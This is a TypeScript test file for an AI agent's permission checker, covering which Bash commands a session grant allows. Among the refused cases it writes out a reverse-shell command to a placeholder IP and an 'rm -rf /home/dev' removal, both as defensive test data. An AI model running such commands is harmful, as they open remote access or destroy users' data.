import { describe, expect, test } from 'vitest'
import type { JsonObject } from '../call/tool-call.ts'
import type { Grant } from '../session.ts'
import { granted } from './grants.ts'
import { subjectOf } from './rules.fixture.ts'
import type { Subject } from './subject.ts'

const EXACTLY = 'a'.repeat(64)

function grant(more: Partial<Grant>): Grant {
  return { id: 'g', session: 'test', scope: 'command', fingerprint: EXACTLY, rule: '', by: 'jane', at: 1, ...more }
}

function bash(command: string, held: Partial<Grant>, change: (subject: Subject) => void = () => undefined): Subject {
  return subjectWith('Bash', { command }, held, change)
}

function subjectWith(
  tool: string,
  input: JsonObject,
  held: Partial<Grant>,
  change: (subject: Subject) => void,
): Subject {
  const subject = subjectOf(tool, input)
  subject.session.grants.push(grant(held))
  change(subject)
  return { ...subject, call: { ...subject.call, fingerprint: EXACTLY } }
}

const byRule = (rule: string): Partial<Grant> => ({ scope: 'rule', fingerprint: '', rule })

describe('what a person allowed for the session', () => {
  test.each<[string, Subject]>([
    ['exactly this call', bash('some-unknown-program', {})],
    ['what the rule matches', bash('npm run build', byRule('Bash(npm run build)'))],
    ['a rule with a wildcard that is narrow', bash('npm run build -- --watch', byRule('Bash(npm run build -- *)'))],
  ])('%s is allowed, and whoever allowed it is named', (_what, subject) => {
    expect(granted(subject)).toMatchObject({ says: 'allow', because: [{ code: 'person.approved' }], approver: 'jane' })
  })

  test.each<[string, Subject]>([
    ['another input', bash('some-unknown-program', { fingerprint: 'b'.repeat(64) })],
    ['a grant of another session', bash('some-unknown-program', { session: 'other' })],
    ['a grant for one call, which is not a permission', bash('some-unknown-program', { scope: 'call' })],
    ['a grant with an end', bash('some-unknown-program', { expires: 2 })],
    ['a grant without a fingerprint', bash('some-unknown-program', { fingerprint: '' })],
    ['hard harm', bash('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', {})],
    ['a command the rule does not match', bash('npm run deploy', byRule('Bash(npm run build)'))],
    ['more than the rule matches', bash('npm run build && some-unknown-program', byRule('Bash(npm run build)'))],
    ['a rule for everything', bash('npm run build', byRule('Bash'))],
    ['a rule that lets anything run', bash('python3 x.py', byRule('Bash(python3 *)'))],
    ['a rule that cannot be read', bash('npm run build', byRule('Bash(npm'))],
    ['a removal that no rule approves', bash('rm -rf /home/dev', byRule('Bash(rm -rf /home/dev)'))],
    ['a paused session', bash('some-unknown-program', {}, ({ session }) => void (session.paused = true))],
  ])('%s is not', (_what, subject) => {
    expect(granted(subject)).toBeUndefined()
  })

  test('plan mode only reads', () => {
    expect(granted({ ...bash('some-unknown-program', {}), mode: 'plan' })).toBeUndefined()
  })
})
